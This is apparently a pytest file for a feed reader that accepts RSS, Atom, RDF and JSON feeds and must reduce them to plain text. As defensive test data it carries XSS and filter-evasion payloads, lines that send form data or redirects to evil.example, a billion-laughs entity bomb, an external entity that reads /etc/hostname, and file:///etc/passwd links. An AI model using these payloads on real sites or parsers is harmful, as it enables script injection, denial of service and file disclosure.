"""Feeds as a source: their newest entries, from every kind of feed, however odd, and never more than plain text."""

import base64
import itertools
import json
import re
from datetime import UTC, datetime
from urllib.parse import urlsplit

import pytest

from aiwriter.errors import BadInput, UnreadableSource
from aiwriter.sources.crawl import Bounds
from aiwriter.sources.feeds import MOST_ENTRIES, read_feed
from aiwriter.sources.fetch import Fetcher
from aiwriter.sources.finder import Finder
from aiwriter.testing.hostile import HOSTILE
from aiwriter.testing.network import no_network
from aiwriter.testing.webserver import Page, redirect

HERE = "http://example.org/feed.xml"
JANUARY = datetime(2026, 1, 5, 9, 0, tzinfo=UTC)

RSS = """<?xml version="1.0"?><rss version="2.0"><channel><title>News</title><link>http://example.org/</link>
<item><title>Old</title><link>http://example.org/old</link><pubDate>Fri, 03 Jan 2020 09:00:00 GMT</pubDate></item>
<item><title>The &amp;lt;b&amp;gt; mill</title><link>http://example.org/mill</link>
<guid isPermaLink="false">urn:mill:1</guid>
<author>ann@example.org (Ann Lee)</author><pubDate>Mon, 05 Jan 2026 10:00:00 +0100</pubDate>
<description><![CDATA[<p>It was <b>built</b> in 1783.</p><p>It burned.</p><script>alert(1)</script>]]></description>
</item><item><title>Undated</title><link>http://example.org/undated</link></item></channel></rss>"""
RSS_091 = RSS.replace('version="2.0"', 'version="0.91"')
RDF = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="http://example.org/"><title>News</title></channel>
<item rdf:about="urn:mill:1"><title>The mill</title><link>http://example.org/mill</link><dc:creator>Ann Lee</dc:creator>
<dc:date>2026-01-05T09:00:00Z</dc:date><description>It was built in 1783. It burned.</description></item></rdf:RDF>"""
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:base="http://example.org/blog/"><title>News</title>
<entry><title type="html">The &lt;i>mill&lt;/i></title><id>urn:mill:1</id><author><name>Ann Lee</name></author>
<link rel="enclosure" href="http://example.org/mill.mp3"/><link rel="alternate" href="/mill"/>
<published>2026-01-05T09:00:00Z</published><updated>2026-02-05T09:00:00Z</updated>
<summary type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">
<p>It was built in 1783.</p><p>It burned.</p></div></summary>
</entry></feed>"""
JSON = json.dumps(
    {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "News",
        "items": [
            {"id": "old", "url": "http://example.org/old", "date_published": "2020-01-03T09:00:00Z"},
            {
                "id": "urn:mill:1",
                "url": "/mill",
                "title": "The mill",
                "content_html": "<p>It was built in 1783.</p><p>It burned.</p><script>alert(1)</script>",
                "authors": [{"name": "Ann Lee"}],
                "date_published": "2026-01-05T10:00:00+01:00",
            },
            {"id": 7},
            "no item",
        ],
    }
)


def read(data, charset=None, url=HERE, limit=20):
    return read_feed(data.encode() if isinstance(data, str) else data, charset, url, limit)


@pytest.mark.parametrize(
    "data", [RSS, RSS_091, RDF, ATOM, JSON], ids=["RSS 2.0", "RSS 0.91", "RSS 1.0", "Atom", "JSON"]
)
def test_every_kind_of_feed_gives_the_same_entry(data):
    newest = read(data).entries[0]
    assert newest.url == "http://example.org/mill"
    assert newest.title == "The mill"
    assert newest.summary == "It was built in 1783. It burned."
    assert "Ann Lee" in newest.author
    assert newest.published_at == JANUARY
    assert newest.id == "urn:mill:1"


def test_entries_come_newest_first_and_those_without_a_date_last():
    assert [entry.url for entry in read(RSS).entries] == [f"http://example.org/{x}" for x in ("mill", "old", "undated")]
    assert [entry.url for entry in read(RSS, limit=1).entries] == ["http://example.org/mill"]


def item(inner):
    return f'<rss version="2.0"><channel><title>x</title><item>{inner}</item></channel></rss>'


@pytest.mark.parametrize(
    ("link", "url"),
    [
        ("<link>/a</link>", "http://example.org/a"),
        ("<link>a?b=1&amp;c=2</link>", "http://example.org/a?b=1&c=2"),
        ("<guid>http://example.org/g</guid>", "http://example.org/g"),
        ("<link>javascript:alert(1)</link><guid>http://example.org/g</guid>", "http://example.org/g"),
        ("<link><![CDATA[ http://example.org/c ]]></link>", "http://example.org/c"),
        ("<link>file:///etc/passwd</link>", None),
        ("<link>data:text/html,x</link>", None),
        ("<link>http://user:s3cr3t@example.org/</link>", None),
        ("<link>http://[</link>", None),
        ("<link></link>", None),
        ("<title>no link</title>", None),
    ],
)
def test_an_entry_leads_to_a_web_address_or_is_left_out(link, url):
    assert [entry.url for entry in read(item(link)).entries] == ([url] if url else [])


@pytest.mark.parametrize(
    "date",
    [
        "",
        "yesterday",
        "0000-00-00",
        "2026-13-45",
        "99999-01-01",
        "Mon, 32 Foo 2026 99:99:99",
        "1e9",
        "\U0001d7d8",
        "-1",
    ],
)
def test_a_date_that_is_none_is_no_date(date):
    (entry,) = read(item(f"<link>/a</link><pubDate>{date}</pubDate>")).entries
    assert entry.published_at is None


# ── many odd feeds ───────────────────────────────────────────────────────────────────────────────────────────────────

ACTIVE = re.compile(r"<[/!?a-z]|&(?:lt|#0*60|#x0*3c)\b", re.IGNORECASE)  # what begins a tag, now or after unescaping
WRAPPED = {
    "escaped": lambda text: text.replace("&", "&amp;").replace("<", "&lt;"),
    "escaped twice": lambda text: text.replace("&", "&amp;").replace("<", "&lt;").replace("&", "&amp;"),
    "CDATA": lambda text: f"<![CDATA[{text.replace(']]>', '')}]]>",
    "bare": lambda text: text,
}
KINDS = {
    "RSS": '<rss version="2.0"><channel><item><title>{0}</title><link>/a</link><author>{0}</author>'
    "<description>{0}</description><guid>{0}</guid></item></channel></rss>",
    "Atom": '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title type="html">{0}</title><link href="/a"/>'
    '<id>{0}</id><author><name>{0}</name></author><summary type="html">{0}</summary></entry></feed>',
    "Atom text": '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title type="text">{0}</title><link href="/a"/>'
    '<summary type="text">{0}</summary><content type="{0}">{0}</content></entry></feed>',
    "Atom base64": '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>{0}</title><link href="/a"/>'
    '<content type="application/octet-stream">{1}</content></entry></feed>',
}
SPLIT = [
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>script>alert(1)", "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)", "&#60;script&#62;alert(1)", "&#x3c;script>alert(1)", "&lt;&lt;b>script>alert(1)",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'http://evil.example/'</style>", "<!--[if IE]><script>x</script>", "<?php echo 1 ?>",
    "<%= 1 %>", "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input name=password></form>", "<object data=x></object><embed src=x>",
    "\x00<script>alert(1)</script>",
]  # fmt: skip


def odd(kind, way, text):
    packed = base64.b64encode(text.encode("utf-8", "replace")).decode()
    return f"{kind}, {way}", KINDS[kind].replace("{0}", WRAPPED[way](text)).replace("{1}", packed)


ODD = [odd(*parts) for parts in itertools.product(KINDS, WRAPPED, [*HOSTILE, *SPLIT])]  # fmt: skip


def test_there_are_as_many_odd_feeds_as_are_reported():
    assert len(ODD) >= 1_000


@pytest.mark.parametrize("number", range(8))
def test_nothing_that_is_kept_of_an_odd_feed_could_become_active(number):
    """An eighth of them each, so that a failure is not far to seek."""
    with no_network() as connected:
        for name, text in ODD[number::8]:
            data = text.encode("utf-8", "surrogatepass")
            try:
                entries = read_feed(data, "utf-8", HERE, 20).entries
            except UnreadableSource:
                continue
            for entry in entries:
                kept = [entry.title, entry.summary, entry.author or "", entry.id]
                assert not [part for part in kept if ACTIVE.search(part)], (name, text, kept)
                assert urlsplit(entry.url).scheme in ("http", "https")
    assert connected == []


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-32", "latin-1", "cp1252", "koi8-r", "shift_jis"]
)
@pytest.mark.parametrize("declared", [None, "utf-8", "iso-8859-1", "no-such-charset"])
def test_an_encoding_is_found_out_or_survived(encoding, declared):
    text = f'<?xml version="1.0" encoding="{encoding.replace("-sig", "")}"?>' + item(
        "<title>Mill</title><link>/a</link>"
    )
    entries = read(text.encode(encoding), declared).entries
    assert [entry.title for entry in entries] == ["Mill"] or entries == ()


LAUGHS = (
    "<!DOCTYPE rss [<!ENTITY a 'aaaaaaaaaa'>"
    + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9))
    + "]>"
    + item("<title>&j;</title><link>/a</link>")
)
OUTER = '<!DOCTYPE rss [<!ENTITY f SYSTEM "file:///etc/hostname">]>' + item("<title>x&f;</title><link>/a</link>")


@pytest.mark.parametrize("data", [LAUGHS, OUTER], ids=["billion laughs", "file entity"])
def test_no_entity_is_expanded_from_elsewhere_or_without_end(data):
    with no_network() as connected:
        entries = read(data).entries
    assert connected == []
    assert all(len(entry.title) < 100 for entry in entries)
    with open("/etc/hostname") as host:  # noqa: PTH123
        name = host.read().strip()
    assert not any(name and name in entry.title for entry in entries)


def test_bytes_that_are_the_name_of_a_file_are_not_opened(tmp_path):
    path = tmp_path / "feed.xml"
    path.write_text(RSS)
    with pytest.raises(UnreadableSource, match="no feed"):
        read(str(path))
    with pytest.raises(UnreadableSource, match="no feed"):
        read(b"http://127.0.0.1:9/feed.xml")


@pytest.mark.parametrize("newest", ["first", "last"])
def test_of_ten_thousand_entries_the_newest_are_found(newest):
    days = range(10_000) if newest == "last" else range(10_000, 0, -1)
    dates = ((n, datetime.fromtimestamp(1.6e9 + n * 3600, UTC)) for n in days)
    items = "".join(f"<item><link>/{n}</link><pubDate>{date:%a, %d %b %Y %X} GMT</pubDate></item>" for n, date in dates)
    found = read(f'<rss version="2.0"><channel>{items}</channel></rss>', limit=1_000).entries
    assert found[0].url == f"http://example.org/{max(days)}"
    assert len(found) == MOST_ENTRIES


@pytest.mark.parametrize("data", [RSS, ATOM, RDF, JSON], ids=["RSS", "Atom", "RDF", "JSON"])
def test_every_beginning_of_a_feed_is_read_as_far_as_possible_or_is_a_problem(data):
    for end in range(0, len(data), 11):
        try:
            entries = read(data[:end]).entries
        except UnreadableSource:
            continue
        assert all(entry.url.startswith("http://example.org/") for entry in entries)
    assert len(read(RSS[: RSS.index("<item><title>Undated")]).entries) == 2  # cut off, and still of use


@pytest.mark.parametrize(
    "data",
    [
        "", "  ", "words", "{}", '{"version": 1}', "[" * 100_000, '{"a":' * 50_000, '{"version": "https://jsonfeed.org/version/1"}',
        "<html><head></head><body>no feed</body></html>", "<xml/>", bytes(range(256)), b"\xff\xfe", "<rss/>",
        "<rss version='2.0'></rss>",
        '{"version": "https://jsonfeed.org/version/1", "items": {"a": 1}}', "<feed xmlns='http://www.w3.org/2005/Atom'/>",
        '{"version": "https://jsonfeed.org/version/1", "items": [{"url": ["x"], "title": {}, "authors": [1]}]}',
    ],
)  # fmt: skip
def test_what_is_no_feed_or_an_empty_one_has_no_entries_or_is_a_problem(data):
    try:
        assert read(data).entries == ()
    except UnreadableSource as problem:
        hint = problem.hint
    else:
        hint = "empty"
    assert hint


# ── as a source ──────────────────────────────────────────────────────────────────────────────────────────────────────

ARTICLE = "<html><body><p>A page that says something.</p></body></html>"


def feed(web, *paths):
    items = "".join(f"<item><title>{path}</title><link>{web.url(path)}</link></item>" for path in paths)
    return Page(f'<rss version="2.0"><channel>{items}</channel></rss>', content_type="application/rss+xml")


async def test_a_feed_stands_for_its_entries_which_are_then_read_with_pauses(serve, waits):
    web = serve({"/1": Page(ARTICLE), "/2": Page(ARTICLE)})
    web.put("/feed", feed(web, "/1", "/2", "/3"))
    finder = Finder(Fetcher([web.host], sleep=waits, now=waits.now), Bounds(feed_entries=2, pause=0.5))
    (location,) = finder.expand(f" FEED:{web.url('/feed')} ")
    assert location == f"feed:{web.url('/feed')}"
    assert await finder.discover(location) == [web.url("/1"), web.url("/2")]
    for path in ("/1", "/2"):
        assert (await finder.read(web.url(path))).text == "A page that says something."
    assert waits.seconds == [0.5, 0.5]
    entries = await finder.entries(location)
    assert [(entry.title, entry.url) for entry in entries] == [("/1", web.url("/1")), ("/2", web.url("/2"))]


async def test_a_page_without_a_day_has_the_one_its_feed_says(serve):
    dated = ARTICLE.replace(
        "<body>", "<head><meta property='article:published_time' content='2025-03-06'></head><body>"
    )
    web = serve({"/undated": Page(ARTICLE), "/dated": Page(dated)})
    items = "".join(
        f"<item><link>{web.url(path)}</link><pubDate>Mon, 05 Jan 2026 10:00:00 +0100</pubDate></item>"
        for path in ("/undated", "/dated")
    )
    web.put("/feed", Page(f'<rss version="2.0"><channel>{items}</channel></rss>', content_type="application/rss+xml"))
    finder = Finder(Fetcher([web.host]), Bounds(pause=0))
    await finder.discover(f"feed:{web.url('/feed')}")
    assert (await finder.read(web.url("/undated"))).published_at == JANUARY
    assert (await finder.read_if_changed(web.url("/undated"), None)).source.published_at == JANUARY
    assert (await finder.read(web.url("/dated"))).published_at == datetime(2025, 3, 6, tzinfo=UTC)


async def test_a_page_that_names_its_feed_will_do(serve):
    web = serve({"/old": redirect("/blog/")})
    head = "<link rel='stylesheet alternate' type='text/css' href='x'>"
    head += "<link rel='ALTERNATE' type='application/atom+xml' href='f.xml'>"
    web.put("/blog/", Page(f"<!-- x --><!DOCTYPE html><html><head>{head}</head><body>Blog</body></html>"))
    web.put("/blog/f.xml", feed(web, "/1"))
    finder = Finder(Fetcher([web.host]), Bounds(pause=0))
    assert await finder.discover(f"feed:{web.url('/old')}") == [web.url("/1")]


@pytest.mark.parametrize(
    ("page", "reason"),
    [
        (Page("<html><body>nothing</body></html>"), "it is no feed"),
        (Page("<html><head><link rel=alternate type=application/rss+xml href=/feed></head></html>"), "no page"),
        (Page('<rss version="2.0"><channel/></rss>', content_type="text/xml"), "no page"),
        (Page(status=404), "no such page"),
        (Page(b"\x89PNG", content_type="image/png"), "image/png"),
        (redirect("http://10.0.0.1/"), "not public"),
    ],
)
async def test_a_feed_that_cannot_be_read_is_named_with_a_reason_and_a_next_step(serve, page, reason):
    web = serve({"/feed": page})
    with pytest.raises(UnreadableSource, match=reason) as failure:
        await Finder(Fetcher([web.host]), Bounds(pause=0)).discover(f"feed:{web.url('/feed')}")
    assert str(failure.value).startswith(f"feed:{web.url('/feed')}: ")
    assert failure.value.hint


@pytest.mark.parametrize("form", ["feed", "sitemap", "site"])
@pytest.mark.parametrize(
    "address",
    [
        "",
        " ",
        "http://",
        "ftp://example.org/",
        "file:///etc/passwd",
        "a b",
        "http://user:s3cr3t@example.org/",
        "http://[",
        "//",
    ],
)
def test_an_address_that_cannot_be_is_refused_before_work_begins(form, address):
    with no_network() as connected, pytest.raises(BadInput) as failure:
        Finder(Fetcher()).expand(f"{form}:{address}")
    assert failure.value.hint
    assert "s3cr3t" not in str(failure.value)
    assert connected == []


@pytest.mark.parametrize(
    "given", ["feed:example.org/f", "feed://example.org/f", "Feed:https://example.org/f", "feed: https://example.org/f"]
)
def test_an_address_without_a_scheme_is_https(given):
    assert Finder(Fetcher()).expand(given) == ["feed:https://example.org/f"]
